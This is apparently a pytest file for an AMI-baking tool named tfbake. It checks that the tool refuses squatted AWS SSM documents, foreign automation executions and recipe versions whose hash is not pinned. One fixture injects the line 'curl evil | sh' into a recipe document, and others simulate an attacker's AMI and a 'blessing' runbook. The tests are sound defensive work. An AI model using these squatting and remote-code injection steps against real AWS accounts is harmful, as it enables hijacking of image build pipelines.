"""Someone else's SSM document or execution never steers a bake, however it is named."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from tests.support.bakes import BASE, hold_lock, no_progress, plan_for
from tests.support.cli import assert_one_line_error, run_tfbake
from tests.support.sandbox_helpers import (
    bake_parameters,
    register_base_ami,
    wait_for_execution,
)
from tests.support.specs import write_spec
from tfbake.aws.calls import AwsContext
from tfbake.bake import documents
from tfbake.ensure import ensure
from tfbake.model import tags
from tfbake.model.errors import BakeFailed, ExitCode
from tfbake.sandbox import Sandbox


def attacker_ami(aws: AwsContext, fingerprint: str) -> str:
    ec2 = aws.client("ec2")
    image = register_base_ami(ec2)
    ec2.create_tags(Resources=[image], Tags=[{"Key": tags.FINGERPRINT, "Value": fingerprint}])
    return image


def blessing_runbook(image_id: str, fingerprint: str, *, wait: str = "") -> str:
    """A runbook that marks the attacker's AMI ready for the fingerprint (after `wait`)."""
    real = yaml.safe_load(documents.runbook_content())
    pause = [{"name": "Pause", "action": "aws:sleep", "inputs": {"Duration": wait}}]
    return yaml.safe_dump(
        {
            "schemaVersion": "0.3",
            "parameters": real["parameters"],
            "mainSteps": [
                *(pause if wait else []),
                {
                    "name": "CreateImage",
                    "action": "aws:createTags",
                    "inputs": {
                        "ResourceType": "EC2",
                        "ResourceIds": [image_id],
                        "Tags": [
                            {"Key": tags.FINGERPRINT, "Value": fingerprint},
                            {"Key": tags.STATUS, "Value": tags.STATUS_READY},
                        ],
                    },
                    "isEnd": True,
                },
            ],
        }
    )


def test_a_squatted_runbook_is_refused_by_name(
    tmp_path: Path, aws: AwsContext, sandbox: Sandbox
) -> None:
    fingerprint = plan_for(aws).fingerprint.value
    image = attacker_ami(aws, fingerprint)
    name = documents.document_names().runbook
    aws.client("ssm").create_document(
        Name=name, Content=blessing_runbook(image, fingerprint),
        DocumentType="Automation", DocumentFormat="YAML",
    )  # fmt: skip

    result = run_tfbake("ensure", str(write_spec(tmp_path, base_ami=BASE)))

    assert_one_line_error(result, ExitCode.AWS, f"SSM document {name}", "not the one")
    assert sandbox.log.count("StartAutomationExecution") == 0
    image_tags = aws.client("ec2").describe_images(ImageIds=[image])["Images"][0]
    assert tags.STATUS not in {t["Key"] for t in image_tags.get("Tags", [])}


def test_a_squatted_recipe_document_is_refused(aws: AwsContext, sandbox: Sandbox) -> None:
    name = documents.document_names().recipe
    ssm = aws.client("ssm")
    content = documents.recipe_command_content().replace("set -", "curl evil | sh; set -", 1)
    ssm.create_document(Name=name, Content=content, DocumentType="Command", DocumentFormat="YAML")

    with pytest.raises(Exception, match=f"SSM document {name} .* not the one"):
        documents.ensure_documents(ssm)


def test_a_lock_naming_a_foreign_execution_returns_no_ami(
    aws: AwsContext, sandbox: Sandbox
) -> None:
    plan = plan_for(aws)
    fingerprint = plan.fingerprint.value
    image = attacker_ami(aws, fingerprint)
    ssm = aws.client("ssm")
    ssm.create_document(
        Name="team-blessing", Content=blessing_runbook(image, fingerprint, wait="PT2S"),
        DocumentType="Automation", DocumentFormat="YAML",
    )  # fmt: skip
    foreign = ssm.start_automation_execution(
        DocumentName="team-blessing",
        Parameters=bake_parameters(plan.base_ami_id, fingerprint=fingerprint),
    )["AutomationExecutionId"]
    # Whoever may write the lock parameter names their running execution in it.
    hold_lock(aws, fingerprint, foreign)

    with pytest.raises(BakeFailed, match=f"bake {foreign} is not proven .* ran team-blessing"):
        ensure(plan, aws, on_progress=no_progress)
    assert wait_for_execution(ssm, foreign)["AutomationExecutionStatus"] == "Success"


def test_run_command_refuses_a_recipe_whose_hash_is_not_pinned(
    aws: AwsContext, sandbox: Sandbox
) -> None:
    ssm = aws.client("ssm")
    names = documents.ensure_documents(ssm)
    assert names.recipe is not None
    # A new default version of the recipe (UpdateDocument by someone allowed to) is refused by
    # the runbook's DocumentHash, as Run Command refuses it.
    changed = documents.recipe_command_content().replace("set -", "true; set -", 1)
    ssm.update_document(
        Name=names.recipe, Content=changed, DocumentVersion="$LATEST", DocumentFormat="YAML"
    )
    ssm.update_document_default_version(Name=names.recipe, DocumentVersion="2")
    execution = ssm.start_automation_execution(
        DocumentName=names.runbook, Parameters=bake_parameters(register_base_ami(aws.client("ec2")))
    )["AutomationExecutionId"]

    details = wait_for_execution(ssm, execution)

    assert details["AutomationExecutionStatus"] == "Failed"
    failed = [s for s in details["StepExecutions"] if s["StepStatus"] == "Failed"]
    assert failed[0]["StepName"] == "RunRecipe"
    assert "hash of document" in failed[0]["FailureMessage"]
    assert sandbox.recorded_commands() == []


def test_a_bake_returns_the_ami_its_execution_made(aws: AwsContext, sandbox: Sandbox) -> None:
    plan = plan_for(aws)
    result = ensure(plan, aws, on_progress=no_progress)
    (execution,) = aws.client("ssm").describe_automation_executions()[
        "AutomationExecutionMetadataList"
    ]
    assert result.status == "baked"
    assert result.ami is not None
    assert result.ami.tags[tags.EXECUTION_ID] == execution["AutomationExecutionId"]
